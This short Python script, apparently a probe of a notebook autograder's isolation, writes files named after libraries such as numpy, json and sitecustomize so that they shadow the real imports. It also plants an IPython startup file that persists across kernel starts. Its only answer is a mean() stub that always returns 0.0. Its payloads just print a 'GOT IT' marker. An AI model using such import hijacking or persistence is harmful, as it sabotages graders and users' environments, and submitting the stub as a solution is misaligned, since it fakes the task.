# Put files beside the notebook that have the names of libraries.
import os
import subprocess  # noqa

for name in ("numpy", "json", "ipykernel_launcher", "sitecustomize", "course", "minitf"):
    with open(f"{name}.py", "w") as file:
        file.write("raise SystemExit('GOT' + ' IT')\n")
os.makedirs(os.path.expanduser("~/.ipython/profile_default/startup"), exist_ok=True)
with open(os.path.expanduser("~/.ipython/profile_default/startup/0.py"), "w") as file:
    file.write("print('GOT' + ' IT')\n")

def mean(x):
    return 0.0
